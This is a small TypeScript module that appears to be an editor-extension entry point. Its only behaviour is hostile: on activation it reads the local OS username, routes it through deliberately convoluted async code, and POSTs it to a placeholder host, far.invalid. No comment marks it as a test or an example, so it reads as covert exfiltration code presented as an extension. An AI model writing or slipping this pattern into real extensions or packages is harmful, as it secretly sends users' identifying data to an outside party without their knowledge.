import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

async function carry() { return ['a', await later()].reduce(async (p, c) => (await p) + c, Promise.resolve('')); }

export async function activate() {
  send(await carry());
}
